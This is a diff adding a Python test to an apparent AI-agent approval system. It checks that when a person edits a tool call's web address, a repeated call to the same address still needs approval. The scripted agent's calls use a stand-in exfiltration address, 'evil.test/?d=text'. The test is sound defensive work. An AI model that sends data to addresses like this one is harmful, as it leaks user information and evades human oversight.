@@ -218,6 +218,22 @@ async def test_an_edited_address_may_not_be_one_that_is_never_asked(tmp_path: Pa
     assert [request.url for request in wire.sent] == ["https://real.test/"]
 
 
+async def test_an_address_that_a_person_took_out_is_not_known_by_that(tmp_path: Path) -> None:
+    wire = Wire()
+    made_up = "https://evil.test/?d=text"
+    provider = replies(
+        say("", call("visit_webpage", "c0", url=made_up)),
+        say("", call("visit_webpage", "c1", url=made_up)),
+        say("done"),
+    )
+    async with bench(tmp_path, provider, web=[VisitTool(wire)]) as b:
+        run_id = await waiting(b, knowledge=("kb",))
+        edited = await decided(b, run_id, "c0", "edit", arguments={"url": "https://real.test/"})
+        [item] = await b.service.approvals("pending")
+    assert (edited["status"], item["call"]["id"]) == ("waiting", "c1")
+    assert [request.url for request in wire.sent] == ["https://real.test/"]
+
+
 async def test_an_address_that_this_machine_refuses_is_blocked_and_nobody_is_asked(
     tmp_path: Path,
 ) -> None:
